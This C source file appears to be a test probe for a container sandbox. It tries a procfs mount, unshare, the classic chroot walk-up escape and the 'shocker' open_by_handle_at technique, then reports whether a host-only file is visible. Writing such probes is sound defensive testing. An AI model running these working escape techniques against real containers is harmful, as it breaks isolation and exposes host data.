/* SPDX-License-Identifier: GPL-2.0-only */
/* escape: tries to leave the container's root and mount namespace and prints
 * one line per attempt, "NAME: ok" or "NAME: ERRNO-NAME", then whether
 * HOSTPATH (a file that exists only on the host) is visible.
 *
 * usage: escape HOSTPATH   (run with a writable cwd, e.g. a tmpfs /tmp)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *ename(int e)
{
	switch (e) {
	case EPERM: return "EPERM";
	case EACCES: return "EACCES";
	case ENOENT: return "ENOENT";
	case EINVAL: return "EINVAL";
	case EBUSY: return "EBUSY";
	case ENOSYS: return "ENOSYS";
	case EROFS: return "EROFS";
	case ENOTDIR: return "ENOTDIR";
	default: return "EOTHER";
	}
}

static void report(const char *what, int r)
{
	if (r == 0)
		printf("%s: ok\n", what);
	else
		printf("%s: %s (%s)\n", what, ename(errno), strerror(errno));
	fflush(stdout);
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: escape HOSTPATH\n");
		return 2;
	}

	/* (b) a new procfs needs CAP_SYS_ADMIN */
	report("mount", mount("proc", "/mnt", "proc", 0, NULL));
	/* (c) a private mount namespace would undo the chroot's protections */
	report("unshare", unshare(CLONE_NEWNS));
	/* (a) the classic: chroot into a subdirectory, walk up from the cwd
	 * that is now outside the root, and make that the root */
	if (mkdir("escape-x", 0755) != 0 && errno != EEXIST)
		perror("mkdir escape-x");
	int r = chroot("escape-x");
	for (int i = 0; i < 64; i++)
		if (chdir("..") != 0)
			break;
	if (r == 0)
		r = chroot(".");
	report("chroot", r);

	/* (d) "shocker": a handle to inode 2, the root of an ext2/3/4
	 * filesystem (type FILEID_INO32_GEN: inode, generation), opened
	 * relative to any fd on the same filesystem; needs
	 * CAP_DAC_READ_SEARCH. The container's root is a directory of the
	 * host's filesystem. */
	struct { struct file_handle fh; unsigned char b[8]; } h = { .fh = { .handle_bytes = 8, .handle_type = 1 } };
	unsigned int ino = 2, gen = 0;
	memcpy(h.fh.f_handle, &ino, 4);
	memcpy(h.fh.f_handle + 4, &gen, 4);
	int mfd = open("/", O_RDONLY | O_DIRECTORY);
	int hfd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY);
	report("handle", hfd < 0 ? -1 : 0);
	struct stat st;
	printf("host by handle: %s\n",
	       hfd >= 0 && fstatat(hfd, argv[1] + 1, &st, 0) == 0 ? "VISIBLE" : "invisible");
	printf("host: %s\n", stat(argv[1], &st) == 0 ? "VISIBLE" : "invisible");
	return 0;
}
